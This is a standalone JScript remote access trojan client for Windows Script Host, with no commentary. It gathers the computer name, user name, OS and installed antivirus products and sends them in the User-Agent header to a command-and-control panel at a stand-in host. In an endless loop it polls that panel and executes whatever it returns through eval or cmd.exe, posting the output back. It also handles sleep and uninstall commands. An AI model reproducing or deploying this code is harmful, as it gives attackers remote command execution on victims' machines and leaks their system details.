var C2 = "http://panel.wshrat-c2.invalid:7744/";
var sh = new ActiveXObject("WScript.Shell");
var wmi = GetObject("winmgmts:\\\\.\\root\\cimv2");
function info() {
    var os = "", av = "", hw = "";
    var e = new Enumerator(wmi.ExecQuery("SELECT Caption, OSArchitecture FROM Win32_OperatingSystem"));
    for (; !e.atEnd(); e.moveNext()) os = e.item().Caption + " " + e.item().OSArchitecture;
    var sc = GetObject("winmgmts:\\\\.\\root\\SecurityCenter2");
    var a = new Enumerator(sc.ExecQuery("SELECT displayName FROM AntiVirusProduct"));
    for (; !a.atEnd(); a.moveNext()) av += a.item().displayName + ";";
    hw = sh.ExpandEnvironmentStrings("%COMPUTERNAME%") + "<|>" + sh.ExpandEnvironmentStrings("%USERNAME%");
    return hw + "<|>" + os + "<|>" + av;
}
function post(path, body) {
    var h = new ActiveXObject("MSXML2.XMLHTTP");
    h.open("POST", C2 + path, false);
    h.setRequestHeader("User-Agent", info());
    h.send(body || "");
    return h.responseText;
}
while (true) {
    var cmd = post("is-ready", "");
    var p = cmd.split("<|>");
    switch (p[0]) {
        case "execute": eval(p[1]); break;
        case "cmd": post("out", sh.Exec("cmd.exe /c " + p[1]).StdOut.ReadAll()); break;
        case "uninstall": sh.RegDelete("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\wshsvc"); WScript.Quit(); break;
        case "sleep": WScript.Sleep(parseInt(p[1], 10)); break;
    }
    WScript.Sleep(5000);
}
